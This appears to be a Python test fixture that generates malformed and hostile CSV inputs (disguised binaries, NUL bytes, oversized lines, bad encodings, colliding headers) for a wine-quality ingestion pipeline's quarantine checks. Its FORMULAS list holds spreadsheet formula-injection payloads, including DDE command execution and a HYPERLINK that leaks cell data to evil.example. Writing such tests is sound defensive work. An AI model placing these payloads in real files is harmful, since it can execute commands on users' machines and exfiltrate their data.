"""The hostile and broken input corpus, generated (nothing binary is checked in).

Each case is a file a real user could drop into `raw/wine_quality/`, the end state it must
reach, and words its quarantine reason must contain so a person knows what to fix.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from testdata import RED_WINE

_LINES = RED_WINE.read_bytes().splitlines(keepends=True)
HEADER, ROWS = _LINES[0], _LINES[1:]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
]


def wine(rows: int = 200) -> bytes:
    """A valid red wine file (semicolon-separated, UCI header) with `rows` rows."""
    return HEADER + b"".join(ROWS[:rows])


def with_text_column(name: str, values: list[str], rows: int = 200) -> bytes:
    """The wine file plus one quoted text column cycling through `values`."""

    def quote(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    lines = [HEADER.rstrip(b"\n").decode() + f";{quote(name)}\n"]
    for i, row in enumerate(ROWS[:rows]):
        lines.append(row.rstrip(b"\n").decode() + f";{quote(values[i % len(values)])}\n")
    return "".join(lines).encode()


def xlsx_bytes() -> bytes:
    """A minimal Office Open XML workbook (what Excel saves), as raw bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        archive.writestr("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet/>')
    return buffer.getvalue()


def ragged() -> bytes:
    rows = list(ROWS[:200])
    rows[150] = rows[150].rstrip(b"\n") + b";1;2\n"
    return HEADER + b"".join(rows)


def mixed_encodings() -> bytes:
    # UTF-8 for the first 300 KB (past the format sniffer's sample), then Latin-1.
    utf8 = with_text_column("taster", ["José", "Zoë"], rows=1599)
    latin1 = with_text_column("taster", ["José"], rows=50).decode().encode("latin-1")
    return utf8 + utf8.split(b"\n", 1)[1] * 3 + latin1.split(b"\n", 1)[1]


def colliding_names() -> bytes:
    # "alcohol" and "Alcohol " both clean to `alcohol`: the second becomes `alcohol_2`.
    header = HEADER.replace(b'"alcohol"', b'"alcohol";"Alcohol "')
    rows = []
    for row in ROWS[:200]:
        cells = row.rstrip(b"\n").split(b";")
        rows.append(b";".join([*cells[:-1], cells[-2], cells[-1]]) + b"\n")
    return header + b"".join(rows)


def empty_target() -> bytes:
    return HEADER + b"".join(row.rstrip(b"\n").rsplit(b";", 1)[0] + b";\n" for row in ROWS[:200])


def nul_in_cells() -> bytes:
    rows = list(ROWS[:200])
    rows[100] = rows[100].replace(b";", b"\x00;", 1)
    return HEADER + b"".join(rows)


def nul_after_sample() -> bytes:
    # Valid for the first 400 KB (the sniffer sees only text), then a run of NUL bytes.
    body = b"".join(ROWS) * 5
    return HEADER + body + b"\x00" * 65536 + b"\n" + b"".join(ROWS[:10])


def huge_line_in_the_middle() -> bytes:
    # 70 MB without a line break after valid rows: more than the 64 MB line limit.
    return wine(1000) + b"9" * (70 * 1024 * 1024) + b"\n" + b"".join(ROWS[:10])


@dataclass(frozen=True)
class Case:
    """One hostile file and what must become of it."""

    name: str
    file_name: str
    make: Callable[[], bytes]
    curated: bool
    reason: str = ""  # words the quarantine reason must contain (case-insensitive)


CASES = [
    Case("empty", "empty.csv", lambda: b"", False, "empty"),
    Case("only-header", "header-only.csv", lambda: HEADER, False, "no data rows"),
    Case("blank-lines", "blank.csv", lambda: b"\n \n\t\n\r\n" * 50, False, "blank"),
    Case("gzip-named-csv", "wine.csv", lambda: gzip.compress(wine()), False, "gzip"),
    Case("xlsx-named-csv", "book.csv", xlsx_bytes, False, "not text"),
    Case(
        "png-named-csv",
        "pic.csv",
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
        False,
        "not text",
    ),
    Case("nul-bytes", "nul.csv", nul_in_cells, False, "binary"),
    Case("nul-after-sample", "tail.csv", nul_after_sample, False, "holds NUL bytes from byte"),
    Case(
        "10mb-single-line",
        "line.csv",
        lambda: b"a;" * (5 * 1024 * 1024),
        False,
        "first line is longer",
    ),
    Case(
        "70mb-line-mid-file",
        "midline.csv",
        huge_line_in_the_middle,
        False,
        "line longer than 64 MB",
    ),
    Case(
        "too-many-columns",
        "wide.csv",
        lambda: "\n".join([";".join(["a"] * 20_000), ";".join(["1"] * 20_000), ""]).encode(),
        False,
        "columns",
    ),
    Case("ragged-rows", "ragged.csv", ragged, False, "consistent number of columns"),
    Case("mixed-encodings", "mixed.csv", mixed_encodings, False, "does not decode as utf-8"),
    Case("target-all-empty", "no-quality.csv", empty_target, False, "quality"),
    Case(
        "missing-target-column",
        "no-target.csv",
        lambda: b"a;b\n" + b"".join(f"{i};{i}\n".encode() for i in range(50)),
        False,
        "no 'quality' column",
    ),
    Case("utf16-without-bom", "utf16.csv", lambda: wine().decode().encode("utf-16-le"), True),
    Case("formula-injection", "formulas.csv", lambda: with_text_column("note", FORMULAS), True),
    Case("colliding-column-names", "collide.csv", colliding_names, True),
    Case("spaces-and-unicode-name", "vinho tinto ñ 🍷 (1).csv", wine, True),
]
